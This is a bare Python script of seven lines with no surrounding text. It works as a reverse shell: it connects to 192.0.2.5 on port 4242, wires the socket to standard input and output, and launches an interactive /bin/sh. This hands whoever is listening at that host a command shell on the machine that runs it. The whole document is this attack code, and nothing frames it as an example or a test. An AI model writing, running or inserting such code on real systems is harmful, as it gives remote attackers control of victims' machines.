import os,socket
h,p='192.0.2.5',4242
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect((h,p))
os.dup2(s.fileno(),0)
os.dup2(s.fileno(),1)
os.execve('/bin/sh',['sh','-i'],os.environ)
